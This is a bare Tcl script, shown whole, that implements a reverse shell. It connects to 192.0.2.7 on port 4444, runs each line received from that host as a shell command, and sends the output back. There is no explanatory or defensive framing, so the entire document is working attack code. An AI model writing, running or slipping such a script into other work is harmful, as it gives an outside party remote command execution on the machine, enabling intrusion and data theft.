#!/usr/bin/tclsh
set s [socket 192.0.2.7 4444]
while 1 { gets $s l; catch {exec sh -c $l} r; puts $s $r; flush $s }
